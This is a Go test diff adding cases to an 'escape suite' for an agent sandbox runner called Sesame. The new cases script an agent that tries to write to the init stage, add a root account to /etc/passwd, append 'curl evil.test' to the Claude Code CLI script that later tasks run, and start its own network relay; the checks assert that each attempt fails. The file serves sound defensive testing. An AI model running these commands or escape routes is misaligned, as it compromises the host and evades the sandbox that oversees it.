@@ -1,6 +1,7 @@
 package runner_test
 
 import (
+	"bytes"
 	"context"
 	"crypto/rand"
 	"encoding/hex"
@@ -13,7 +14,9 @@ import (
 	"testing"
 
 	sesame "github.com/sesame-works/sesame"
+	"github.com/sesame-works/sesame/gitops"
 	"github.com/sesame-works/sesame/internal/modeltest"
+	"github.com/sesame-works/sesame/sandbox/local"
 )
 
 // The escape suite: an agent that attacks the walls of its sandbox, started exactly as the runner
@@ -38,6 +41,7 @@ type escapeEnv struct {
 	homeFile string // the canary file in the server's home
 	decoy    string // another task's workspace file
 	tag      string // unique name for files and processes the attack leaves
+	claude   string // the Claude Code CLI's script, which every later task runs
 }
 
 // escapeRun is what came of one attack.
@@ -138,8 +142,15 @@ ls /proc | grep -c '^[0-9]' | sed 's/^/PROCS=/'`
 		},
 	},
 	{
-		name:  "plant a hook in the mirror, change its config, write into the spare checkout",
-		setup: func(e *escapeEnv) { e.h.runner.Mirrors.Spare = true },
+		name: "plant a hook in the mirror, change its config, write into the spare checkout",
+		setup: func(e *escapeEnv) {
+			// Spares as the server keeps them: handed to the sandbox's user in advance, so only the
+			// mount namespace keeps the agent from them.
+			e.h.runner.Mirrors.Spare = true
+			if uid, gid, other := e.h.runner.Sandbox.(*local.Provider).Owner(); other {
+				e.h.runner.Mirrors.Owner = &gitops.Owner{UID: uid, GID: gid}
+			}
+		},
 		script: func(e *escapeEnv) string {
 			return `M=$(dirname "$(cat .git/objects/info/alternates)")
 echo "MIRROR=$M"
@@ -237,6 +248,56 @@ unshare -U true && echo USERNS || echo NO-USERNS`
 		},
 	},
 	{
+		name: "tamper with what Sesame binds in: the init stage, the accounts, the agents' install",
+		script: func(e *escapeEnv) string {
+			claude := e.claude
+			return fmt.Sprintf(`echo x >> /run/sesame/init && echo WROTE-INIT || echo NO-INIT
+echo 'root2:x:0:0::/:/bin/sh' >> /etc/passwd && echo WROTE-PASSWD || echo NO-PASSWD
+echo 'curl evil.test' >> %q && echo WROTE-AGENT || echo NO-AGENT
+touch %q && echo PLANTED || echo NO-PLANT`, claude, filepath.Join(filepath.Dir(claude), e.tag))
+		},
+		check: func(t *testing.T, e *escapeEnv, r *escapeRun) {
+			for _, line := range []string{"NO-INIT", "NO-PASSWD", "NO-AGENT", "NO-PLANT"} {
+				r.mustSay(t, line)
+			}
+			if _, err := os.Stat(filepath.Join(filepath.Dir(e.claude), e.tag)); err == nil {
+				t.Errorf("the agent planted a file in the agents' install folder")
+			}
+			if b, _ := os.ReadFile(e.claude); bytes.Contains(b, []byte("curl evil.test")) {
+				t.Errorf("the agent changed %s, which every later task runs", e.claude)
+			}
+			inits, _ := filepath.Glob(filepath.Join(e.h.taskBase, ".sesame-init", "sesame-init-*"))
+			self, _ := os.Executable()
+			want, _ := os.ReadFile(self)
+			for _, p := range inits {
+				if got, _ := os.ReadFile(p); !bytes.Equal(got, want) {
+					t.Errorf("the staged init %s was changed", p)
+				}
+			}
+			if len(inits) == 0 {
+				t.Errorf("no staged init under %s", e.h.taskBase)
+			}
+		},
+	},
+	{
+		name: "start a relay of its own with the init stage",
+		script: func(e *escapeEnv) string {
+			// Run by the agent, the init stage is under the agent's Landlock domain and seccomp
+			// filter: no unix socket for a relay, no unconfined process.
+			return "/run/sesame/init __sesame-sandbox-init -proxy /run/sesame/proxy.sock -port 3129 " +
+				"-ro /usr -ro /etc -ro /proc -rw /tmp -rw /dev -- " +
+				`curl -s -o /dev/null -w 'SECOND-RELAY %{http_code}\n' -m 5 -x http://127.0.0.1:3129 http://example.org/` +
+				"\necho \"INIT-EXIT $?\""
+		},
+		check: func(t *testing.T, e *escapeEnv, r *escapeRun) {
+			r.mustSay(t, "SECOND-RELAY 000") // curl ran; its relay could not reach the proxy
+			if strings.Contains(r.output, "SECOND-RELAY 403") || strings.Contains(r.output, "SECOND-RELAY 200") ||
+				r.violated(sesame.ViolationNetwork, "example.org") {
+				t.Errorf("the agent's own relay reached the proxy:\n%s\n%v", r.output, r.violations)
+			}
+		},
+	},
+	{
 		name: "resolve DNS",
 		script: func(e *escapeEnv) string {
 			return `getent hosts example.com && echo RESOLVED || echo NO-DNS`
@@ -301,7 +362,11 @@ func TestEscapes(t *testing.T) {
 
 	for _, x := range escapes {
 		t.Run(x.name, func(t *testing.T) {
-			e := &escapeEnv{canary: canary, homeFile: homeFile, tag: "sesame-escape-" + randomTag(t)}
+			claude, err := filepath.EvalSymlinks(claudePath(t))
+			if err != nil {
+				t.Fatal(err)
+			}
+			e := &escapeEnv{canary: canary, homeFile: homeFile, tag: "sesame-escape-" + randomTag(t), claude: claude}
 			// The harness is made first, without steps, so the script can name its paths; the
 			// model's script is set once the attack is known.
 			e.h = newAgentHarness(t)
